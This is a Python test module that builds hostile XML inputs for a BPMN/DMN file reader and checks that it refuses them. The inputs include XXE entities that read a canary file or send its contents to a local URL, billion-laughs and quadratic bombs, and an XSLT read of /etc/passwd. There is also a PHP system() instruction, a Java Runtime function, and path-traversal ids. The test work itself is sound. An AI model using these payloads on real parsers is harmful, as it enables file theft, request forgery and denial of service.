"""Files that attack whoever reads them: entities, bombs, encodings, ids, references."""

from collections.abc import Callable, Iterator
from functools import partial

from bpmn.bundle import Bundle
from bpmn.dmn import read_decisions
from bpmn.findings import Refused
from bpmn.reader import read_bpmn
from tests.hostile.drawing import NAMESPACES, extended, file_of, flow, line_of
from tests.hostile.drive import Ran, review_and_run
from tests.hostile.places import ASSIGNED, DMN

BODY = '<process id="p" isExecutable="true"><startEvent id="s"/><endEvent id="e"/></process>'
PLAIN = line_of('<task id="x"/>')
DECISION = (
    f'<definitions xmlns="{DMN}" id="dm" name="dm" namespace="t"><decision id="a" name="a">'
    "<literalExpression><text>1</text></literalExpression></decision></definitions>"
)


def warm_up() -> None:
    """Load what is loaded late."""
    review_and_run(Bundle(PLAIN, {"d.dmn": DECISION}))
    review_and_run(Bundle("<broken", {"d.dmn": "<broken"}))


def cases(canary: str, port: int) -> Iterator[tuple[str, Callable[[], Ran]]]:
    """Every file, once as BPMN and where it makes sense once as DMN."""
    for name, prolog in _prologs(canary, port).items():
        text = prolog.replace("@@", f'<definitions {NAMESPACES} id="d">{BODY}</definitions>')
        yield f"must refuse: {name}", partial(_read, text.encode())
        yield f"must refuse: {name} in DMN", partial(_read_dmn, prolog.replace("@@", DECISION))
    for name, data in _bytes().items():
        yield f"must refuse: {name}", partial(_read, data)
    for name, data in _spelled().items():
        yield f"may read: {name}", partial(_read, data)
    for name, text in _fetching(canary, port).items():
        may = "must refuse" if name.startswith(("include", "import")) else "may read"
        yield f"{may}: {name}", partial(_read, text.encode())
    for name, text in _grown().items():
        yield f"must refuse: {name}", partial(_read, text.encode())
    for name, text in _broken().items():
        yield f"must refuse: {name}", partial(review_and_run, Bundle(text))
    for name, text in _odd().items():
        yield f"may read: {name}", partial(review_and_run, Bundle(text))
    for name, text in _decisions().items():
        called = '<zeebe:calledDecision decisionId="a" resultVariable="r"/>'
        bundle = Bundle(line_of(extended("businessRuleTask", called)), {"d.dmn": text})
        must = "may read" if "harmless" in name else "must refuse or stop"
        yield f"{must}: {name}", partial(review_and_run, bundle)


def _read(data: bytes) -> Ran:
    ran = Ran()
    try:
        definitions, _ = read_bpmn(data, "hostile.bpmn")
    except Refused as refused:
        ran.refused = [finding.rule for finding in refused.findings]
        ran.seen = str(refused)
    else:
        ran.seen = repr(definitions)
    return ran


def _read_dmn(text: str) -> Ran:
    ran = Ran()
    try:
        ran.seen = repr(read_decisions(text.encode(), "hostile.dmn"))
    except Refused as refused:
        ran.refused = [finding.rule for finding in refused.findings]
        ran.seen = str(refused)
    return ran


def _prologs(canary: str, port: int) -> dict[str, str]:
    """Document types of all kinds; ``@@`` is where the document stands."""
    url = f"http://127.0.0.1:{port}/x"
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 10}">' for n in range(12)
    )
    quadratic = f'<!ENTITY a "{"a" * 50_000}">'
    return {
        "external entity of a file": f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{canary}">]>@@',
        "external entity of a path": f'<!DOCTYPE d [<!ENTITY x SYSTEM "{canary}">]>@@',
        "external entity of an address": f'<!DOCTYPE d [<!ENTITY x SYSTEM "{url}">]>@@',
        "public external entity": f'<!DOCTYPE d [<!ENTITY x PUBLIC "-//x//y" "{url}">]>@@',
        "parameter entity of a file": f'<!DOCTYPE d [<!ENTITY % x SYSTEM "file://{canary}">%x;]>@@',
        "parameter entity of an address": f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{url}">%x;]>@@',
        "parameter entity that makes one": (
            f'<!DOCTYPE d [<!ENTITY % f SYSTEM "file://{canary}"><!ENTITY % e "<!ENTITY &#37; s '
            f"SYSTEM '{url}?%f;'>\">%e;%s;]>@@"
        ),
        "external document type of a file": f'<!DOCTYPE d SYSTEM "file://{canary}">@@',
        "external document type of an address": f'<!DOCTYPE d SYSTEM "{url}">@@',
        "public document type": f'<!DOCTYPE d PUBLIC "-//x//y" "{url}">@@',
        "unparsed entity": f'<!DOCTYPE d [<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "{url}" NDATA n>]>@@',
        "empty document type": "<!DOCTYPE d>@@",
        "document type with defaults": '<!DOCTYPE d [<!ATTLIST task id CDATA "x">]>@@',
        "billion laughs": f"<!DOCTYPE d [{laughs}]><d>&l11;</d>",
        "billion laughs in an attribute": f'<!DOCTYPE d [{laughs}]><d a="&l11;"/>',
        "quadratic blow-up": f"<!DOCTYPE d [{quadratic}]><d>{'&a;' * 30_000}</d>",
        "entity that holds itself": '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]><d>&a;</d>',
        "parameter entities that grow": (
            '<!DOCTYPE d [<!ENTITY % a "'
            + "x" * 1000
            + '">'
            + "".join(f'<!ENTITY % b{n} "%a;%a;">' for n in range(50))
            + "]>@@"
        ),
        "harmless entity": '<!DOCTYPE d [<!ENTITY a "a">]>@@',
        "entity nobody declared": "<d>&nothing;</d>",
    }


def _bytes() -> dict[str, bytes]:
    """Bytes that are no file of ours."""
    bomb = '<!DOCTYPE d [<!ENTITY a "aaaa">]><d>&a;</d>'
    return {
        "nothing": b"",
        "a byte-order mark and nothing": b"\xef\xbb\xbf",
        "white space": b" \n" * 1000,
        "JSON": b'{"process": 1}',
        "HTML": b"<html><body><p>hello</body></html>",
        "a zip file": b"PK\x03\x04" + bytes(200),
        "a gzip file": b"\x1f\x8b\x08\x00" + bytes(200),
        "random bytes": bytes(range(256)) * 20,
        "a NUL in the text": PLAIN.replace('id="x"', 'id="x\x00"').encode(),
        "a NUL after the end": PLAIN.encode() + b"\x00<evil/>",
        "a control character": PLAIN.replace('id="x"', 'id="x" name="\x08"').encode(),
        "a referred NUL": PLAIN.replace('id="x"', 'id="x" name="&#0;"').encode(),
        "a referred surrogate": PLAIN.replace('id="x"', 'id="x" name="&#xD800;"').encode(),
        "broken UTF-8": PLAIN.replace('id="x"', 'id="x" name="@"').encode().replace(b"@", b"\xff"),
        "overlong UTF-8": PLAIN.replace('id="x"', 'id="x" name="@"')
        .encode()
        .replace(b"@", b"\xc0\xaf"),
        "UTF-16 declared, UTF-8 written": b'<?xml version="1.0" encoding="UTF-16"?>' + b"<broken>",
        "an encoding nobody knows": b'<?xml version="1.0" encoding="klingon"?>' + PLAIN.encode(),
        "UTF-7 with a document type": _declared("UTF-7") + bomb.encode("utf-7"),
        "UTF-16 with a document type": bomb.encode("utf-16"),
        "UTF-16 with a document type and no mark": bomb.encode("utf-16-le"),
        "UTF-32 with a document type": bomb.encode("utf-32"),
        "EBCDIC with a document type": (_declared("cp037").decode() + bomb).encode("cp037"),
        "two documents": (PLAIN + PLAIN).encode(),
        "XML 9.9": b'<?xml version="9.9" standalone="maybe"?>' + PLAIN.encode(),
        "half a file": PLAIN.encode()[: len(PLAIN) // 2],
        "another root": f"<process {NAMESPACES}/>".encode(),
        "a style sheet": (
            b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            b'<xsl:template match="/"><xsl:value-of select="document(\'/etc/passwd\')"/>'
            b"</xsl:template></xsl:stylesheet>"
        ),
    }


def _declared(encoding: str) -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?>'.encode()


def _spelled() -> dict[str, bytes]:
    """The same file in other encodings: read as it is, or refused."""
    named = PLAIN.replace('id="x"', 'id="x" name="患者"')
    return {
        "UTF-8 with a mark": b"\xef\xbb\xbf" + named.encode(),
        "UTF-16 with a mark": named.encode("utf-16"),
        "UTF-16 declared": ('<?xml version="1.0" encoding="UTF-16"?>' + named).encode("utf-16"),
        "GB18030 declared": _declared("GB18030") + named.encode("gb18030"),
        "Latin-1 declared": _declared("ISO-8859-1") + PLAIN.encode("latin-1"),
        "UTF-7 declared": _declared("UTF-7") + named.encode("utf-7"),
        "UTF-32": named.encode("utf-32"),
    }


def _fetching(canary: str, port: int) -> dict[str, str]:
    """What other programs would follow: nothing of it is fetched."""
    url = f"http://127.0.0.1:{port}/x"
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    inside = PLAIN.replace("<process ", "@@<process ", 1)
    return {
        "schema location": PLAIN.replace(
            'id="d"', f'id="d" xsi:schemaLocation="http://www.omg.org/spec/BPMN {url}"'
        ),
        "schema location without namespace": PLAIN.replace(
            'id="d"', f'id="d" xsi:noNamespaceSchemaLocation="file://{canary}"'
        ),
        "style sheet instruction": f'<?xml-stylesheet type="text/xsl" href="{url}"?>{PLAIN}',
        "style sheet instruction of a file": f'<?xml-stylesheet href="file://{canary}"?>{PLAIN}',
        "instruction to run": f"<?php system('cat {canary}'); ?>{PLAIN}",
        "catalog instruction": f'<?oasis-xml-catalog catalog="{url}"?>{PLAIN}',
        "include of a file": inside.replace(
            "@@", f'<xi:include {include} href="file://{canary}" parse="text"/>'
        ),
        "include of an address": inside.replace("@@", f'<xi:include {include} href="{url}"/>'),
        "include inside a task": PLAIN.replace(
            '<task id="x"/>',
            f'<task id="x"><xi:include {include} href="file://{canary}" parse="text"/></task>',
        ),
        "import of BPMN": inside.replace(
            "@@",
            f'<import namespace="n" location="{url}" importType="http://www.omg.org/spec/BPMN"/>',
        ),
        "import of a schema": inside.replace(
            "@@",
            f'<import namespace="n" location="file://{canary}" '
            'importType="http://www.w3.org/2001/XMLSchema"/>',
        ),
        "base address": PLAIN.replace('id="d"', f'id="d" xml:base="{url}"'),
        "item definition": inside.replace("@@", f'<itemDefinition id="i" structureRef="{url}"/>'),
    }


def _grown() -> dict[str, str]:
    """Depth, width, long attributes, long texts."""
    return {
        "depth of sub-processes": file_of("<subProcess>" * 500 + "</subProcess>" * 500),
        "depth of 200,000": file_of("<a>" * 200_000),
        "depth of lanes": file_of(
            "<laneSet>" + "<lane><childLaneSet>" * 80 + "</childLaneSet></lane>" * 80 + "</laneSet>"
        ),
        "depth in an extension": line_of(
            '<task id="x"><extensionElements>'
            + "<z>" * 300
            + "</z>" * 300
            + "</extensionElements></task>"
        ),
        "width": file_of("<task/>" * 6000),
        "width of flows": file_of('<sequenceFlow sourceRef="a" targetRef="b"/>' * 6000),
        "width of text nodes": file_of("<task/>a" * 6000),
        "attributes": file_of("<task " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"),
        "namespaces": file_of(
            "<task " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(60_000)) + "/>"
        ),
        "one attribute twice": line_of('<task id="x" id="y"/>'),
        "a long attribute": file_of(f'<task id="{"x" * 3_000_000}"/>'),
        "a long text": file_of(f"<documentation>{'x' * 3_000_000}</documentation>"),
        "a long comment": f"<!--{'x' * 3_000_000}-->{PLAIN}",
        "a long name of an element": file_of(f"<{'t' * 100_000}/>"),
        "a long CDATA": file_of(f"<documentation><![CDATA[{'<' * 3_000_000}]]></documentation>"),
        "a long instruction": f"<?x {'y' * 3_000_000}?>{PLAIN}",
    }


def _broken() -> dict[str, str]:
    """Ids that clash and references that lead nowhere."""
    boundary = '<boundaryEvent id="b" attachedToRef="{}"><errorEventDefinition/></boundaryEvent>'
    two = f'<definitions {NAMESPACES} id="d">{BODY}{BODY}</definitions>'
    return {
        "two elements of one id": line_of('<task id="x"/><task id="x"/>'),
        "a flow with an element's id": line_of('<task id="x"/>' + flow("s", "e", name="x")),
        "an element with the process's id": line_of('<task id="x"/><task id="case"/>'),
        "a message with an element's id": line_of('<task id="x"/>', '<message id="x" name="M"/>'),
        "two processes of one id": two,
        "an id in two processes": two.replace('id="p"', 'id="q"', 1),
        "a diagram's element with an id twice": line_of('<task id="x"/>').replace(
            "</definitions>", '<message id="x"/></definitions>'
        ),
        "the id of a loop's instance": line_of(
            '<task id="x"><standardLoopCharacteristics loopMaximum="2"/></task>'
            f'<task id="x#inner"/>{flow("s", "x#inner")}{flow("x#inner", "e")}'
        ),
        "flow from nowhere": line_of('<task id="x"/>' + flow("nowhere", "e")),
        "flow to nowhere": line_of('<task id="x"/>' + flow("s", "nowhere")),
        "flow to another process": two.replace('id="p"', 'id="q"', 1)
        .replace('id="s"', 'id="s2"', 1)
        .replace('id="e"', 'id="e2"', 1)
        .replace("</process>", flow("s2", "e") + "</process>", 1),
        "flow to a flow": line_of('<task id="x"/>' + flow("x", "s_x")),
        "flow without ends": line_of('<task id="x"/><sequenceFlow id="q"/>'),
        "boundary event at nothing": line_of('<task id="x"/>' + boundary.format("nowhere")),
        "boundary event at itself": line_of('<task id="x"/>' + boundary.format("b")),
        "boundary event at a gateway": line_of(
            '<exclusiveGateway id="x"/>' + boundary.format("x") + flow("b", "e")
        ),
        "boundary event at another scope's task": line_of(
            '<subProcess id="x"><task id="inner"/></subProcess>'
            + boundary.format("inner")
            + flow("b", "e")
        ),
        "boundary events at each other": line_of(
            '<task id="x"/>'
            + boundary.format("c")
            + boundary.format("b").replace('id="b"', 'id="c"')
        ),
        "default that leads nowhere": line_of('<exclusiveGateway id="x" default="nowhere"/>'),
        "default of another gateway": line_of('<exclusiveGateway id="x" default="s_x"/>'),
        "message that is not there": line_of('<receiveTask id="x" messageRef="nowhere"/>'),
        "message that is a task": line_of('<receiveTask id="x" messageRef="x"/>'),
        "signal that is not there": line_of(
            '<intermediateCatchEvent id="x"><signalEventDefinition signalRef="nowhere"/></intermediateCatchEvent>'
        ),
        "error that is not there": file_of(
            f'<startEvent id="s"/>{flow("s", "e")}<endEvent id="e">'
            '<errorEventDefinition errorRef="nowhere"/></endEvent>'
        ),
        "escalation that is not there": line_of(
            '<intermediateThrowEvent id="x"><escalationEventDefinition escalationRef="nowhere"/></intermediateThrowEvent>'
        ),
        "link that is not there": line_of(
            '<intermediateThrowEvent id="x"><linkEventDefinition name="L"/></intermediateThrowEvent>'
        ),
        "compensation of what is not there": line_of(
            '<intermediateThrowEvent id="x"><compensateEventDefinition activityRef="nowhere"/></intermediateThrowEvent>'
        ),
        "operation that is not there": line_of('<serviceTask id="x" operationRef="nowhere"/>'),
        "lane of what is not there": line_of(
            '<laneSet><lane id="l"><flowNodeRef>nowhere</flowNodeRef></lane></laneSet><task id="x"/>'
        ),
        "element in two lanes": line_of(
            '<laneSet><lane id="l"><flowNodeRef>x</flowNodeRef></lane><lane id="m">'
            '<flowNodeRef>x</flowNodeRef></lane></laneSet><task id="x"/>'
        ),
        "data object that is not there": line_of(
            '<task id="x"/><dataObjectReference id="r" dataObjectRef="nowhere"/>'
        ),
        "participant of no process": line_of(
            '<task id="x"/>',
            '<collaboration id="c"><participant id="a" processRef="nowhere"/></collaboration>',
        ),
        "message flow to nowhere": line_of(
            '<task id="x"/>',
            '<collaboration id="c"><participant id="a" processRef="p"/>'
            '<messageFlow id="f" sourceRef="x" targetRef="nowhere"/></collaboration>',
        ),
        "incoming flow that is not there": line_of(
            '<task id="x"><incoming>nowhere</incoming></task>'
        ),
        "outgoing flow of another": line_of('<task id="x"><outgoing>s_x</outgoing></task>'),
        "form that is not there": line_of(
            extended("userTask", ASSIGNED + '<zeebe:formDefinition formId="nowhere"/>')
        ),
        "decision that is not there": line_of(
            extended(
                "businessRuleTask",
                '<zeebe:calledDecision decisionId="nowhere" resultVariable="r"/>',
            )
        ),
        "association to nowhere": line_of(
            '<task id="x"/><association id="a" sourceRef="x" targetRef="nowhere"/>'
        ),
        "no start and a ring": file_of(
            f'<task id="a"/><task id="b"/>{flow("a", "b")}{flow("b", "a")}'
        ),
        "elements of a namespace nobody knows": PLAIN.replace("<task id", "<zeebe:task id"),
    }


def _odd() -> dict[str, str]:
    """Ids and names that programs trip over."""
    ids = {
        "prototype": "__proto__",
        "dunder": "__class__",
        "path": "../../etc/passwd",
        "markup": "&lt;script&gt;",
        "digits": "123",
        "spaces": "a b",
        "line break": "a&#10;b",
        "direction mark": "a\u202eb",
        "emoji": "\U0001f600",
        "long": "x" * 50_000,
        "format": "{0.__class__}%s%n",
        "null word": "null",
    }
    named = {
        f"element called {name}": line_of('<task id="x"/>').replace('"x"', f'"{key}"')
        for name, key in ids.items()
    }
    targets = {
        f"variable called {name}": line_of(
            extended(
                "task",
                f'<zeebe:ioMapping><zeebe:output source="=1" target="{key}"/></zeebe:ioMapping>',
            )
        )
        for name, key in ids.items()
    }
    return (
        named
        | targets
        | {
            "a path of 5,000 variables": line_of(
                extended(
                    "task",
                    f'<zeebe:ioMapping><zeebe:output source="=1" target="{".".join("a" * 5000)}"/></zeebe:ioMapping>',
                )
            ),
            "a process of one id and a lane of the same": line_of(
                '<laneSet><lane id="p2"/></laneSet><task id="x"/>'
            ),
        }
    )


def _decisions() -> dict[str, str]:
    """Decision files whose requirements go round in a ring, or lead nowhere."""
    literal = "<literalExpression><text>1</text></literalExpression>"

    def needs(kind: str, target: str) -> str:
        return f'<{kind}Requirement><required{kind.title()} href="{target}"/></{kind}Requirement>'

    def decision(key: str, inner: str) -> str:
        return f'<decision id="{key}" name="{key}">{inner}{literal}</decision>'

    def file(inner: str) -> str:
        return f'<definitions xmlns="{DMN}" id="dm" name="dm" namespace="t">{inner}</definitions>'

    def information(target: str) -> str:
        return (
            f'<informationRequirement><requiredDecision href="#{target}"/></informationRequirement>'
        )

    def function(key: str, text: str) -> str:
        return (
            f'<businessKnowledgeModel id="{key}" name="{key}"><variable name="{key}"/>'
            f"<encapsulatedLogic><literalExpression><text>{text}</text></literalExpression>"
            f"</encapsulatedLogic>{needs('knowledge', '#' + key)}</businessKnowledgeModel>"
        )

    chain = "".join(decision(f"d{n}", information(f"d{n + 1}")) for n in range(1000))
    return {
        "decision that needs itself": file(decision("a", information("a"))),
        "decisions in a ring": file(
            decision("a", information("b"))
            + decision("b", information("c"))
            + decision("c", information("a"))
        ),
        "decision that needs nothing known": file(decision("a", information("nowhere"))),
        "decision of another file": file(
            decision(
                "a",
                '<informationRequirement><requiredDecision href="http://127.0.0.1/x#a"/></informationRequirement>',
            )
        ),
        "function that calls itself": file(
            function("f", "f()") + f'<decision id="a" name="a">{needs("knowledge", "#f")}'
            "<literalExpression><text>f()</text></literalExpression></decision>"
        ),
        "function that calls itself twice": file(
            function("f", "f() + f()") + f'<decision id="a" name="a">{needs("knowledge", "#f")}'
            "<literalExpression><text>f()</text></literalExpression></decision>"
        ),
        "service that holds itself": file(
            f'<decision id="a" name="a">{needs("knowledge", "#s")}<literalExpression><text>s()</text>'
            "</literalExpression></decision>"
            '<decisionService id="s" name="s"><outputDecision href="#a"/></decisionService>'
        ),
        "type that holds itself, harmless": file(
            '<itemDefinition name="t"><itemComponent name="c"><typeRef>t</typeRef></itemComponent>'
            '</itemDefinition><decision id="a" name="a"><variable name="a" typeRef="t"/>'
            "<literalExpression><text>{c: {c: 1}}</text></literalExpression></decision>"
        ),
        "type that is itself": file(
            '<itemDefinition name="t"><typeRef>t</typeRef></itemDefinition>'
            f'<decision id="a" name="a"><variable name="a" typeRef="t"/>{literal}</decision>'
        ),
        "types in a ring": file(
            '<itemDefinition name="t"><typeRef>u</typeRef></itemDefinition>'
            '<itemDefinition name="u"><typeRef>t</typeRef></itemDefinition>'
            f'<decision id="a" name="a"><variable name="a" typeRef="t"/>{literal}</decision>'
        ),
        "type nobody knows": file(
            f'<decision id="a" name="a"><variable name="a" typeRef="nowhere"/>{literal}</decision>'
        ),
        "two decisions of one id": file(decision("a", "") + decision("a", "")),
        "a chain of 1,000 decisions": file(
            chain + decision("d1000", "") + decision("a", information("d0"))
        ),
        "external function": file(
            '<businessKnowledgeModel id="f" name="f"><encapsulatedLogic kind="Java">'
            '<context><contextEntry><variable name="class"/><literalExpression><text>"java.lang.Runtime"'
            "</text></literalExpression></contextEntry></context></encapsulatedLogic>"
            "</businessKnowledgeModel>" + decision("a", needs("knowledge", "#f"))
        ),
        "decision in another language": file(
            '<decision id="a" name="a"><literalExpression expressionLanguage="http://www.python.org">'
            "<text>1</text></literalExpression></decision>"
        ),
        "import of another file": file(
            '<import namespace="n" name="n" importType="https://www.omg.org/spec/DMN/20191111/MODEL/" '
            'locationURI="http://127.0.0.1/x.dmn"/>' + decision("a", information("n.a"))
        ),
    }
